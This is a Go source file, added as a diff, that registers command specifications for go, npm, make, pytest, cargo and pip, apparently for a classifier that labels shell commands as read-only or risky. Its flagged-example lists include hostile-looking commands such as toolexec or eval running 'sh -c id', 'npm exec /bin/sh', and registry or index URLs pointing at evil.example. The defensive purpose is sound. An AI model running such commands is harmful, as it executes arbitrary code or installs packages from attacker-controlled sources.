@@ -1,0 +1,89 @@
+package programs
+
+// Build tools and package managers. Building, testing and running the
+// project run the project's own code (RunsProject): known, never read-only.
+// Options and subcommands that run a command given on the command line, or
+// load a tool, are Exec or Load.
+
+func init() {
+	goBuild := "-C= -a -n -p= -race -msan -asan -cover -covermode= -coverpkg= -v -work -x -asmflags= -buildmode= -buildvcs? -compiler= -gccgoflags= -gcflags= -installsuffix= " +
+		"-ldflags= -linkshared -mod= -modcacherw -modfile=r -overlay=r -pgo=r -pkgdir= -tags= -trimpath -toolexec=x -o=w -json -i -debug-actiongraph= -debug-trace= -debug-runtime-trace= -h:h -help:h"
+	goTest := goBuild + " -exec=x -c -args -bench= -benchtime= -benchmem -count= -coverprofile=w -cpu= -failfast -fullpath -fuzz= -fuzztime= -fuzzminimizetime= -list= -parallel= -run= -short " +
+		"-shuffle= -skip= -timeout= -vet= -blockprofile=w -blockprofilerate= -coverprofile=w -cpuprofile=w -memprofile=w -memprofilerate= -mutexprofile=w -mutexprofilefraction= -outputdir=w -trace=w " +
+		"-test.run= -test.v -test.count= -test.timeout= -test.short -test.bench="
+	goPkgs := &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goBuild}
+	register(&Spec{
+		Names: n("go"), LongDash: true, Options: "-C= -h:h -help:h --help:h -version:h",
+		ReadOnly: []string{"go version", "go env GOPATH", "go list ./...", "go doc fmt.Println", "go list -m all", "go list -json ./...", "go help build", "go vet ./..."},
+		Flagged: []string{"go list -toolexec='sh -c id' ./...", "go list -export -toolexec=./x.sh ./...", "go build -toolexec=./x.sh ./...", "go test -exec='sh -c id' ./...",
+			"go run main.go", "go generate ./...", "go vet -vettool=./x ./...", "go env -w GOFLAGS=-toolexec=./x", "go tool x"},
+		Subcommands: subs(
+			"version", &Spec{LongDash: true, Options: "-m -v -json", Operands: "r*"},
+			"env", &Spec{LongDash: true, Options: "-json -changed -u=c -w=c", Operands: "-*"},
+			"list", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -m -f= -e -deps -export -find -test -compiled -retracted -reuse= -u -versions"},
+			"doc", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: "-all -c -cmd -short -src -u -http= -h:h -help:h"},
+			"help", &Spec{Operands: "-*"},
+			"vet", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -vettool=x -json -c= -all -asmdecl -assign -atomic -bools -buildtag -cgocall -composites -copylocks -errorsas -httpresponse -loopclosure -lostcancel -nilfunc -printf -shift -stdmethods -structtag -tests -unmarshal -unreachable -unsafeptr -unusedresult"},
+			"build", goPkgs, "install", goPkgs,
+			"test", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: RunsProject, Options: goTest, Loose: true},
+			"run", &Spec{LongDash: true, Operands: "x*", Effect: RunsProject, Options: goBuild + " -exec=x"},
+			"generate", &Spec{LongDash: true, Permute: true, Operands: "-*", Effect: Exec, Options: goBuild + " -run= -skip="},
+			"tool", &Spec{LongDash: true, Operands: "x*", Options: "-n -modfile=r"},
+			"mod", &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-h:h"},
+			"get", &Spec{Effect: Network, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
+			"fmt", &Spec{Effect: Write, LongDash: true, Permute: true, Operands: "-*", Options: "-n -x -mod="},
+			"clean", &Spec{Effect: Delete, LongDash: true, Permute: true, Operands: "-*", Loose: true, Options: "-h:h"},
+			"work", &Spec{Effect: Write, Operands: "-*", Loose: true, Options: "-h:h"},
+		),
+	})
+
+	npmRun := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--script-shell=x -h:h --help:h"}
+	npmNet := &Spec{Effect: RunsProject, Permute: true, Operands: "-*", Loose: true, Options: "--registry=n -h:h --help:h"}
+	npmRead := &Spec{Permute: true, Operands: "-*", Options: "--json --long -l --parseable -p --depth= --all -a --global -g --omit= --include= --prod --dev --workspace= -w= --workspaces --link --unicode --registry=n -h:h --help:h"}
+	register(&Spec{
+		Names: n("npm"), Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y",
+		ReadOnly: []string{"npm ls", "npm view react version", "npm outdated", "npm -v", "npm config list", "npm help install"},
+		Flagged:  []string{"npm exec /bin/sh", "npm config set registry https://evil.example", "npm install", "npm run build", "npm frobnicate"},
+		Subcommands: subs(
+			"ls", npmRead, "list", npmRead, "view", npmRead, "info", npmRead, "show", npmRead, "outdated", npmRead, "root", npmRead, "prefix", npmRead, "bin", npmRead,
+			"whoami", npmRead, "help", npmRead, "doctor", npmRead, "explain", npmRead, "why", npmRead, "fund", npmRead, "search", npmRead, "ping", npmRead,
+			"config", &Spec{Options: "-h:h --help:h", Subcommands: subs("list", npmRead, "ls", npmRead, "get", npmRead, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Config, Operands: "-*", Loose: true}, "edit", &Spec{Effect: Config, Operands: "-*", Loose: true})},
+			"install", npmNet, "i", npmNet, "ci", npmNet, "add", npmNet, "update", npmNet, "up", npmNet, "uninstall", npmNet, "rm", npmNet, "remove", npmNet, "rebuild", npmNet, "link", npmNet, "dedupe", npmNet, "prune", npmNet, "audit", npmNet, "pack", npmNet,
+			"run", npmRun, "run-script", npmRun, "test", npmRun, "t", npmRun, "start", npmRun, "stop", npmRun, "restart", npmRun, "init", npmRun, "create", npmRun,
+			"exec", &Spec{Effect: Exec, Operands: "x*", Loose: true}, "x", &Spec{Effect: Exec, Operands: "x*", Loose: true},
+			"publish", &Spec{Effect: Network, Operands: "-*", Loose: true}, "unpublish", &Spec{Effect: Network, Operands: "-*", Loose: true}, "deprecate", &Spec{Effect: Network, Operands: "-*", Loose: true},
+			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
+		),
+	})
+	register(
+		&Spec{Names: n("make", "gmake"), Effect: RunsProject, Lang: "make", Permute: true, Operands: "-*",
+			// --eval and the makefile run any command.
+			Options: "-B --always-make -C= --directory= -d --debug? -e --environment-overrides -E=k --eval=k -f= --file= --makefile= -i --ignore-errors -I= --include-dir= -j? --jobs? " +
+				"-k --keep-going -l? --load-average? --max-load? -L --check-symlink-times -n --just-print --dry-run --recon -o= --old-file= --assume-old= -O? --output-sync? -p --print-data-base " +
+				"-q --question -r --no-builtin-rules -R --no-builtin-variables -s --silent --quiet --no-silent -S --no-keep-going --stop -t --touch --trace -v --version:h -w --print-directory " +
+				"--no-print-directory -W= --what-if= --new-file= --assume-new= --warn-undefined-variables --shuffle? -h --help:h",
+			Flagged: []string{"make", "make test", "make --eval='$(shell sh -c id)' .", "make -s --eval='$(file >/tmp/x,DATA)' ."}},
+		&Spec{Names: n("pytest", "py.test"), Effect: RunsProject, Permute: true, Operands: "-*", Loose: true,
+			// -p loads a plugin module; --rootdir and ini files may
+			// name more.
+			Options: "-p=l -c=r --confcutdir= --override-ini=u -o=u --pyargs -h --help:h --version:h -V:h",
+			Flagged: []string{"pytest", "pytest -p evilplugin", "pytest -x tests/"}},
+		&Spec{Names: n("cargo"), Options: "-V:h --version:h -h:h --help:h --list -v -vv -q --quiet --color= -C= --locked --offline --frozen --config=u -Z=u",
+			Subcommands: subs("build", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "b", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "check", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"test", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "t", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "run", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"r", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "bench", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "clippy", &Spec{Effect: RunsProject, Operands: "-*", Loose: true},
+				"doc", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "fmt", &Spec{Effect: Write, Operands: "-*", Loose: true}, "clean", &Spec{Effect: Delete, Operands: "-*", Loose: true},
+				"fetch", &Spec{Effect: Network, Operands: "-*", Loose: true}, "update", &Spec{Effect: Network, Operands: "-*", Loose: true}, "add", &Spec{Effect: Network, Operands: "-*", Loose: true},
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "publish", &Spec{Effect: Network, Operands: "-*", Loose: true},
+				"tree", &Spec{Permute: true, Operands: "-*", Loose: false, Options: "-p= --package= -i= --invert= -e= --edges= --depth= --prefix= --no-dedupe -d --duplicates --charset= -f= --format= --all-features --no-default-features -F= --features= --target= --workspace --exclude= -h:h --help:h"},
+				"metadata", &Spec{Permute: true, Operands: "", Options: "--format-version= --no-deps --all-features --features= --no-default-features --filter-platform= --manifest-path= -h:h --help:h"}),
+			Flagged: []string{"cargo build", "cargo --config 'build.rustc-wrapper=\"sh\"' build"}},
+		&Spec{Names: n("pip", "pip3"), Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --isolated --python=x --require-virtualenv --no-input --disable-pip-version-check --no-color",
+			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o --outdated -u --uptodate -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
+				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
+				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Options: "-i=n --index-url=n --extra-index-url=n"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
+				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", &Spec{Effect: Config, Operands: "-*", Loose: true}, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
+			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
+	)
+}
